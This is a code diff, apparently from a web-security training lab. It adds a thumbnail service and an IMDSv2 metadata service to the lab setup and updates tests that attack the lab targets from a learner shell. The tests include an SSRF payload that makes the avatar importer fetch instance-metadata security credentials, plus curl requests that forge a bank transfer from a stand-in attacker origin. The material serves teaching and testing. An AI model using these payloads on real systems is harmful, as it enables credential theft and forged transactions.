@@ -6,11 +6,17 @@ import type { LabFile, LabSpec } from '../lab-spec.ts';
 import { LabRunner } from './lab-runner.ts';
 
 const bootTimeoutMs = 300_000;
-/** Five Python applications in one process, and the metadata service: 10–20 s idle, far more on a loaded host. */
+/**
+ * Five Python applications in one process, the thumbnail service and the metadata service: 10–20 s idle, far more on
+ * a loaded host.
+ */
 const setupTimeoutMs = 300_000;
 const targetsDir = path.join(shippedContentDir, 'targets');
 
-/** Every file of the targets, laid out in the lab as in the content folder, readable by the service alone. */
+/**
+ * Every file of the targets, laid out in the lab as in the content folder, readable by the service alone; the
+ * metadata service's own machine has its own copy of `weblab`, under its account.
+ */
 async function targetFiles(): Promise<LabFile[]> {
   const files: LabFile[] = [];
   for (const entry of await readdir(targetsDir, { recursive: true, withFileTypes: true })) {
@@ -18,13 +24,22 @@ async function targetFiles(): Promise<LabFile[]> {
     const relative = path.relative(targetsDir, path.join(entry.parentPath, entry.name));
     const content = await readFile(path.join(targetsDir, relative), 'utf8');
     const imds = relative.startsWith('metadata/');
-    const target = imds ? `/srv/imds/${relative.slice('metadata/'.length)}` : `/srv/targets/${relative}`;
-    files.push({ path: target, content, owner: imds ? 'imds' : 'www-data', mode: '0640' });
+    files.push({
+      path: `/srv/${imds ? 'imds' : 'targets'}/${relative}`,
+      content,
+      owner: imds ? 'imds' : 'www-data',
+      mode: '0640',
+    });
+    if (relative.startsWith('weblab/'))
+      files.push({ path: `/srv/imds/${relative}`, content, owner: 'imds', mode: '0640' });
   }
   return files;
 }
 
-/** The learner's machine, one host serving every web target by name, and the instance metadata service. */
+/**
+ * The learner's machine, one host serving every web target by name, the thumbnail service on an instance of its own,
+ * and the instance metadata service (IMDSv1 for the first host, IMDSv2 only for the second).
+ */
 async function webTargetsLab(): Promise<LabSpec> {
   return {
     hostname: 'kali',
@@ -37,6 +52,7 @@ async function webTargetsLab(): Promise<LabSpec> {
         address: '169.254.10.20',
         aliases: ['shop.lab.internal', 'invoices.lab.internal', 'bank.lab.internal', 'support.lab.internal'],
       },
+      { name: 'thumbs.lab.internal', address: '169.254.10.30' },
       { name: 'instance-metadata', address: '169.254.169.254' },
     ],
     services: [
@@ -49,11 +65,19 @@ async function webTargetsLab(): Promise<LabSpec> {
         ports: [80],
       },
       {
+        name: 'thumbs',
+        user: 'www-data',
+        host: 'thumbs.lab.internal',
+        cwd: '/srv/targets',
+        command: 'python3 -S weblab/serve.py thumbs/app.py',
+        ports: [80],
+      },
+      {
         name: 'metadata',
         user: 'imds',
         host: 'instance-metadata',
         cwd: '/srv/imds',
-        command: 'busybox httpd -f -p 80 -h /srv/imds/www -c /srv/imds/httpd.conf',
+        command: 'python3 -S weblab/serve.py metadata/app.py',
         ports: [80],
       },
     ],
@@ -168,9 +192,12 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
     expect(
       await run(`curl -si -c jar -d 'user=alice&password=wonderland' ${bank}/login | grep -i '^set-cookie'`),
     ).toMatch(/^Set-Cookie: bank_session=[0-9a-f]{24}; Path=\/; HttpOnly\r?\n$/);
-    expect(
-      await run(`curl -s -b jar -H 'Origin: http://attacker.lab.example' -d amount=1 -d to=DE02 ${bank}/transfer`),
-    ).toMatch(/^Sent 1\.00 EUR from alice to DE02\. Reference: TX-[0-9A-F]{10}\n$/);
+    const transfer = (origin: string) =>
+      run(`curl -s -b jar -H 'Origin: ${origin}' -d amount=1 -d to=DE02 ${bank}/transfer`);
+    const forged = await transfer('http://attacker.lab.example');
+    expect(forged).toMatch(/^Sent 1\.00 EUR from alice to DE02\. Reference: TX-[0-9A-F]{10}\n$/);
+    // The reference depends on the Origin the bank accepted: the same transfer from the bank's own page differs.
+    expect(await transfer(bank)).not.toBe(forged);
     expect(await run(`curl -s -b jar -d email=a@lab.example ${bank}/settings/email`)).toBe('Invalid CSRF token\n');
     const cors = (origin: string) =>
       run(`curl -s -o /dev/null -D - -b jar -H 'Origin: ${origin}' ${bank}/api/account | grep -ci '^access-control'`);
@@ -178,12 +205,14 @@ describe('the web targets, attacked from the learner shell as the lessons teach'
     expect(await cors('http://attacker.example')).toBe('0\n');
   }, 120_000);
 
-  it('avatars: the importer reaches the metadata service that refuses the learner (SSRF)', async () => {
-    expect(await run('curl -s -o /dev/null -w "%{http_code}" http://169.254.169.254/latest/meta-data/')).toBe('403');
-    const importer = (url: string) =>
-      run(`curl -s -d '{"url":"${url}"}' http://avatars.lab.internal/api/avatar/import`);
-    expect(await importer('http://169.254.169.254/latest/meta-data/iam/security-credentials/')).toBe(
+  it('avatars: the importer reaches the metadata service that ignores the learner (SSRF); IMDSv2 stops the thumbnail importer', async () => {
+    expect(await run('curl -s -m 2 http://169.254.169.254/latest/meta-data/; echo "exit $?"')).toBe('exit 28\n');
+    const roles = '{"url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}';
+    expect(await run(`curl -s -d '${roles}' http://avatars.lab.internal/api/avatar/import`)).toBe(
       'avatars-prod-s3-writer',
+    );
+    expect(await run(`curl -s -d '${roles}' http://thumbs.lab.internal/api/thumbnail/import`)).toBe(
+      '{"error": "the server answered 401"}\n',
     );
   }, 120_000);
 
